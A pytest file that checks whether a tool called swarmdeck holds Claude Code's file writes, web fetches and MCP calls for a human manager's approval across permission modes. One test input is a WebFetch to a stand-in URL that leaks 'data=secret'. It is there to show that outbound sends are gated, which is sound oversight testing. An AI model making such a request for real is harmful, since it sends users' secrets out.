"""What reaches the inbox from the real Claude Code with swarmdeck's default install.

The default PreToolUse matcher gates every tool that changes or sends something, not
only Bash (issue 10 item 5), and an MCP tool of another server reaches the manager with
a title to decide on (item 6). ``ENABLE_TOOL_SEARCH=false`` makes Claude Code offer its
deferred tools (WebFetch, NotebookEdit, MCP tools) up front, so the fake model can call
them.
"""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest

from tests.real_clients.clients import Running, claude_args, claude_env
from tests.real_clients.fake_apis import AnthropicFake, Script
from tests.real_clients.swarmdeck_cli import Swarmdeck

pytestmark = [pytest.mark.slow, pytest.mark.real_client, pytest.mark.timeout(120)]

RUN_BOUND = 60.0
FAKE_MCP_SERVER = Path(__file__).with_name("fake_mcp_server.py")


def tool_call(tool: str, project: Path) -> dict[str, Any]:
    """The input of one call of ``tool`` that would change or send something."""
    return {
        "Write": {"file_path": str(project / "ran"), "content": "x"},
        "WebFetch": {"url": "https://example.com/leak?data=secret", "prompt": "summarise"},
    }[tool]


# NotebookEdit (matched too) cannot be scripted in one call: Claude Code refuses it before
# any hook runs unless the notebook was Read earlier in the session ("File has not been
# read yet"); tests/integrations/test_own_tools_and_titles.py covers its matching.
@pytest.mark.parametrize("tool", ["Write", "WebFetch"])
def test_the_default_matcher_gates_what_changes_or_sends(
    tool: str, claude_bin: Path, sd: Swarmdeck, project: Path, client_home: Path
) -> None:
    sd.install_claude_code(project)
    script = Script(command="", tool=tool, tool_input=tool_call(tool, project))
    with AnthropicFake(script) as api:
        env = claude_env(client_home, api.url, ENABLE_TOOL_SEARCH="false")
        with Running(claude_args(claude_bin, f"Use {tool}."), cwd=project, env=env) as claude:
            esc = sd.wait_for_escalation(client=claude)
            assert esc["title"].startswith(f"{tool}: "), esc
            sd.decide(esc["id"], "reject", reason="not without a review")
            done = claude.finish(RUN_BOUND)
        assert done.returncode == 0, done.explain()
        text = api.tool_result() or ""
    assert "not without a review" in text, text
    assert not (project / "ran").exists()


@pytest.fixture
def github_call(project: Path) -> Iterator[AnthropicFake]:
    script = Script(
        command="",
        tool="mcp__github__create_issue",
        tool_input={"title": "Fix login bug", "body": "Steps to reproduce: ..."},
    )
    with AnthropicFake(script) as fake:
        yield fake


def test_a_third_party_mcp_tool_reaches_the_manager_with_a_telling_title(
    claude_bin: Path, sd: Swarmdeck, project: Path, client_home: Path, github_call: AnthropicFake
) -> None:
    sd.install_claude_code(project)
    marker = project / "issue"
    config = project.parent / "mcp.json"
    server = {"command": sys.executable, "args": [str(FAKE_MCP_SERVER), str(marker)]}
    config.write_text(json.dumps({"mcpServers": {"github": server}}))
    args = claude_args(
        claude_bin, "File the bug.", "--mcp-config", str(config), "--strict-mcp-config"
    )
    env = claude_env(client_home, github_call.url, ENABLE_TOOL_SEARCH="false")
    with Running(args, cwd=project, env=env) as claude:
        esc = sd.wait_for_escalation(client=claude)
        assert esc["title"] == "github create_issue: Fix login bug"
        assert not marker.exists()  # held until the manager decides
        sd.decide(esc["id"], "approve")
        done = claude.finish(RUN_BOUND)
    assert done.returncode == 0, done.explain()
    assert marker.read_text() == "Fix login bug"
    assert "created issue #1" in (github_call.tool_result() or "")


def run_write(
    claude_bin: Path, sd: Swarmdeck, project: Path, home: Path, mode: str
) -> tuple[dict[str, Any] | None, bool]:
    """A Write in ``mode``: the escalation that reached the inbox (then rejected), if any,
    and whether the file was written."""
    target = project / "written"
    script = Script(command="", tool="Write", tool_input={"file_path": str(target), "content": "x"})
    with AnthropicFake(script) as api:
        env = claude_env(home, api.url)
        args = claude_args(claude_bin, "Write the file.", "--permission-mode", mode)
        with Running(args, cwd=project, env=env) as claude:
            try:
                esc = sd.wait_for_escalation(client=claude, timeout=20)
            except AssertionError:  # the run ended without asking anyone
                esc = None
            if esc is not None:
                sd.decide(esc["id"], "reject", reason="not now")
            done = claude.finish(RUN_BOUND)
    assert done.returncode == 0, done.explain()
    return esc, target.exists()


@pytest.mark.parametrize("mode", ["default", "acceptEdits", "plan", "auto", "dontAsk"])
def test_every_permission_mode_asks_the_inbox_through_pretooluse(
    mode: str, claude_bin: Path, sd: Swarmdeck, project: Path, client_home: Path
) -> None:
    """The README's promise: the PreToolUse gate runs before any permission mode decides."""
    sd.install_claude_code(project)
    esc, written = run_write(claude_bin, sd, project, client_home, mode)
    assert esc is not None and "tool use:" in esc["body"], esc  # PreToolUse bodies name it
    assert not written


@pytest.mark.parametrize("mode", ["acceptEdits", "auto"])
def test_in_accept_edits_and_auto_modes_permission_request_never_comes(
    mode: str, claude_bin: Path, sd: Swarmdeck, project: Path, client_home: Path
) -> None:
    """Why the matcher matters: with PreToolUse gating nothing, these modes let the edit
    through without a PermissionRequest, so nothing reaches the inbox."""
    sd.install_claude_code(project, matcher="NoSuchTool")
    esc, written = run_write(claude_bin, sd, project, client_home, mode)
    assert esc is None
    assert written
